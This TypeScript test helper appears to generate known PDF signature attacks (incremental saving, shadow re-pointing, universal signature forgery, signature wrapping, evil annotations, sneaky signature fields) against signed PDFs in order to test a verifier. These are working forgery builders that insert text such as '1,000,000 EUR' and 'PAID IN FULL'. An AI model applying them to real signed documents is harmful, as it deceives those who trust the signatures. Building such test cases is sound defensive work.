/**
 * Builders of the published PDF signature attacks, applied to any signed PDF (our own fixtures or Folio's
 * own /v1/sign output): incremental saving (new page, changed content, empty xref without /Prev),
 * shadow re-pointing, universal signature forgery (Contents/ByteRange missing, null, zero, odd), signature
 * wrapping (widened gap), and evil-annotation / sneaky-signature updates for certified documents.
 */
import { openPdf } from '../../src/verify/index.js';
import { isRef, isStream, type PdfValue } from '../../src/pdf/index.js';
import { appendUpdate, nextObjectNumber, serialize } from './fixtures.js';

function pagesOf(pdf: Uint8Array) {
  const doc = openPdf(pdf);
  const cat = doc.catalogAt(doc.last)!;
  const pagesRef = cat.map.get('Pages');
  if (!isRef(pagesRef)) throw new Error('Pages is not a reference');
  const pages = doc.dictAt(pagesRef, doc.last)!;
  const kids = doc.deref(pages.map.get('Kids'), doc.last) as PdfValue[];
  const first = kids[0];
  if (!isRef(first)) throw new Error('first kid is not a reference');
  const page = doc.dictAt(first, doc.last)!;
  return { doc, pagesRef, pages, kids, first, page };
}

const dict = (entries: Array<[string, PdfValue]>) => serialize({ kind: 'dict', map: new Map(entries), start: 0, end: 0 });

/** ISA: an incremental update appending a page with its own content. */
export function appendPage(pdf: Uint8Array, opts: { xref?: 'table' | 'empty'; prev?: boolean } = {}): Uint8Array {
  const { pagesRef, pages, kids, page } = pagesOf(pdf);
  let n = nextObjectNumber(pdf);
  const pageNum = n++;
  const contentNum = n++;
  const content = 'BT /F1 24 Tf 72 700 Td (Manipulated after signing) Tj ET';
  const newPage = dict([
    ['Type', { kind: 'name', name: 'Page' }],
    ['Parent', pagesRef],
    ['MediaBox', page.map.get('MediaBox') ?? [0, 0, 595, 842]],
    ['Contents', { kind: 'ref', num: contentNum, gen: 0 }],
  ]);
  const newPages = new Map(pages.map);
  newPages.set('Kids', [...kids, { kind: 'ref', num: pageNum, gen: 0 }]);
  newPages.set('Count', kids.length + 1);
  return appendUpdate(
    pdf,
    [
      { num: pageNum, body: newPage },
      { num: contentNum, body: `<</Length ${content.length}>>\nstream\n${content}\nendstream` },
      { num: pagesRef.num, body: serialize({ kind: 'dict', map: newPages, start: 0, end: 0 }) },
    ],
    opts,
  );
}

/** ISA: the first page's content stream redefined in an update. */
export function changeContentStream(pdf: Uint8Array, opts: { xref?: 'table' | 'empty'; prev?: boolean } = {}): Uint8Array {
  const { doc, page } = pagesOf(pdf);
  let contents = page.map.get('Contents');
  if (Array.isArray(contents)) contents = contents[0];
  if (!isRef(contents)) throw new Error('page has no content reference');
  const old = doc.resolve(contents.num, doc.last)?.value;
  if (!isStream(old)) throw new Error('content is not a stream');
  const content = 'BT /F1 24 Tf 72 700 Td (The amount owed is 1,000,000 EUR) Tj ET';
  return appendUpdate(pdf, [{ num: contents.num, body: `<</Length ${content.length}>>\nstream\n${content}\nendstream` }], opts);
}

/**
 * Shadow hide-and-replace: an update with no object bodies, only an xref entry re-pointing the catalog to an
 * older body of it inside the signed bytes (or, without one, to another object's body).
 */
export function repointObject(pdf: Uint8Array): Uint8Array {
  const doc = openPdf(pdf);
  const root = doc.trailerAt(doc.last)!.map.get('Root');
  if (!isRef(root)) throw new Error('no root');
  const current = doc.resolve(root.num, doc.last)!;
  const older = doc.bodies.filter((b) => b.num === root.num && b.offset !== current.offset);
  const target = older.length ? older[0]!.offset : doc.bodies.find((b) => b.num !== root.num)!.offset;
  return appendUpdate(pdf, [], { xrefOverride: [{ num: root.num, offset: target }] });
}

/** Rewrites the last /ByteRange array in place (same length, padded with spaces). */
export function rewriteByteRange(pdf: Uint8Array, make: (br: number[]) => string): Uint8Array {
  const buf = Buffer.from(pdf);
  const text = buf.toString('latin1');
  const re = /\/ByteRange\s*\[([^\]]*)\]/g;
  let m: RegExpExecArray | null;
  let lastM: RegExpExecArray | undefined;
  while ((m = re.exec(text))) lastM = m;
  if (!lastM) throw new Error('no ByteRange');
  const br = lastM[1]!.trim().split(/\s+/).map(Number);
  const open = lastM.index + lastM[0].indexOf('[');
  const span = lastM[0].length - lastM[0].indexOf('[');
  let replacement = make(br);
  if (replacement.length > span) throw new Error('replacement ByteRange too long');
  replacement = replacement.slice(0, -1).padEnd(span - 1, ' ') + ']';
  buf.write(replacement, open, 'latin1');
  return new Uint8Array(buf);
}

/** SWA: the gap widened by `by` bytes past the /Contents string. */
export const widenGap = (pdf: Uint8Array, by = 16) => rewriteByteRange(pdf, ([a, b, c, d]) => `[${a} ${b} ${c! + by} ${d! - by}]`);

/** The last /Contents hex string, located. */
function lastContents(pdf: Uint8Array): { start: number; end: number } {
  const text = Buffer.from(pdf).toString('latin1');
  // The signature's /Contents is the hex string one (a page's /Contents is a reference or an array).
  const k = lastMatch(text, /\/Contents\s*</g);
  const start = text.indexOf('<', k);
  const end = text.indexOf('>', start) + 1;
  return { start, end };
}

/** USF: /Contents replaced by zeros (same length). */
export function zeroContents(pdf: Uint8Array): Uint8Array {
  const buf = Buffer.from(pdf);
  const { start, end } = lastContents(pdf);
  buf.fill('0', start + 1, end - 1, 'latin1');
  return new Uint8Array(buf);
}

/** USF: /Contents emptied to `<>` (padding with spaces keeps every offset). */
export function emptyContents(pdf: Uint8Array): Uint8Array {
  const buf = Buffer.from(pdf);
  const { start, end } = lastContents(pdf);
  buf.write('<>'.padEnd(end - start, ' '), start, 'latin1');
  return new Uint8Array(buf);
}

/** USF: /Contents null. */
export function nullContents(pdf: Uint8Array): Uint8Array {
  const buf = Buffer.from(pdf);
  const { start, end } = lastContents(pdf);
  buf.write('null'.padEnd(end - start, ' '), start, 'latin1');
  return new Uint8Array(buf);
}

/** USF: a key renamed so the dictionary no longer has it. */
export function renameLastKey(pdf: Uint8Array, key: '/Contents' | '/ByteRange'): Uint8Array {
  const buf = Buffer.from(pdf);
  const at = lastMatch(buf.toString('latin1'), key === '/Contents' ? /\/Contents\s*</g : /\/ByteRange\s*\[/g);
  buf.write(key.slice(0, -1) + 'X', at, 'latin1');
  return new Uint8Array(buf);
}

/** EAA: a visible FreeText annotation with an appearance added to the first page in an update. */
export function addAnnotation(pdf: Uint8Array, subtype: 'FreeText' | 'Stamp' | 'Link' = 'FreeText'): Uint8Array {
  const { doc, first, page } = pagesOf(pdf);
  let n = nextObjectNumber(pdf);
  const annotNum = n++;
  const apNum = n++;
  const ap = 'q 1 1 1 rg 0 0 300 40 re f 0 g BT /Helv 18 Tf 5 12 Td (PAID IN FULL) Tj ET Q';
  const annots = (doc.deref(page.map.get('Annots'), doc.last) as PdfValue[] | undefined) ?? [];
  const newPage = new Map(page.map);
  newPage.set('Annots', [...annots, { kind: 'ref', num: annotNum, gen: 0 }]);
  return appendUpdate(pdf, [
    {
      num: annotNum,
      body: `<</Type /Annot /Subtype /${subtype} /Rect [72 600 372 640] /Contents (PAID IN FULL) /DA (/Helv 18 Tf 0 g) /F 4 /P ${first.num} 0 R /AP <</N ${apNum} 0 R>>>>`,
    },
    { num: apNum, body: `<</Type /XObject /Subtype /Form /BBox [0 0 300 40] /Length ${ap.length}>>\nstream\n${ap}\nendstream` },
    { num: first.num, body: serialize({ kind: 'dict', map: newPage, start: 0, end: 0 }) },
  ]);
}

/** SSA: a new signature field whose widget draws a signature appearance, with no signature value. */
export function addSneakySignatureField(pdf: Uint8Array): Uint8Array {
  const { doc, first, page } = pagesOf(pdf);
  const cat = doc.catalogAt(doc.last)!;
  const root = doc.trailerAt(doc.last)!.map.get('Root');
  if (!isRef(root)) throw new Error('no root');
  let n = nextObjectNumber(pdf);
  const fieldNum = n++;
  const apNum = n++;
  const ap = 'q 0 0 0.6 rg BT /Helv 14 Tf 5 20 Td (Digitally signed by the CEO) Tj ET Q';
  const annots = (doc.deref(page.map.get('Annots'), doc.last) as PdfValue[] | undefined) ?? [];
  const newPage = new Map(page.map);
  newPage.set('Annots', [...annots, { kind: 'ref', num: fieldNum, gen: 0 }]);
  const acro = doc.dictAt(cat.map.get('AcroForm'), doc.last);
  const fields = (doc.deref(acro?.map.get('Fields'), doc.last) as PdfValue[] | undefined) ?? [];
  const newAcro = new Map(acro?.map ?? []);
  newAcro.set('Fields', [...fields, { kind: 'ref', num: fieldNum, gen: 0 }]);
  const newCat = new Map(cat.map);
  newCat.set('AcroForm', { kind: 'dict', map: newAcro, start: 0, end: 0 });
  return appendUpdate(pdf, [
    {
      num: fieldNum,
      body: `<</Type /Annot /Subtype /Widget /FT /Sig /T (CEO) /Rect [72 500 372 550] /F 4 /P ${first.num} 0 R /AP <</N ${apNum} 0 R>>>>`,
    },
    { num: apNum, body: `<</Type /XObject /Subtype /Form /BBox [0 0 300 50] /Length ${ap.length}>>\nstream\n${ap}\nendstream` },
    { num: first.num, body: serialize({ kind: 'dict', map: newPage, start: 0, end: 0 }) },
    { num: root.num, body: serialize({ kind: 'dict', map: newCat, start: 0, end: 0 }) },
  ]);
}

/** Bytes appended after the signed revision without any structure (no xref, no %%EOF). */
export function appendGarbageObject(pdf: Uint8Array): Uint8Array {
  const { first } = pagesOf(pdf);
  const tail = Buffer.from(`\n${first.num} 0 obj\n<</Type /Page /Contents [] /MediaBox [0 0 10 10]>>\nendobj\n`, 'latin1');
  return new Uint8Array(Buffer.concat([Buffer.from(pdf), tail]));
}

function lastMatch(text: string, re: RegExp): number {
  let at = -1;
  for (let m = re.exec(text); m; m = re.exec(text)) at = m.index;
  if (at < 0) throw new Error(`${re} not found`);
  return at;
}
